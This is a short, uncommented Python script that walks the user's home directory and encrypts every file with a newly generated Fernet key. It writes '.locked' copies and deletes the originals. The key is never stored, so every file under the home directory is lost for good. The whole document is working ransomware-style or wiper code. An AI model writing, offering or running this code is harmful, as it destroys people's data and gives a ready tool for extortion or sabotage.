import os
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for root, _, names in os.walk(os.path.expanduser('~')):
    for n in names:
        p = os.path.join(root, n)
        data = open(p, 'rb').read()
        open(p + '.locked', 'wb').write(f.encrypt(data))
        os.remove(p)
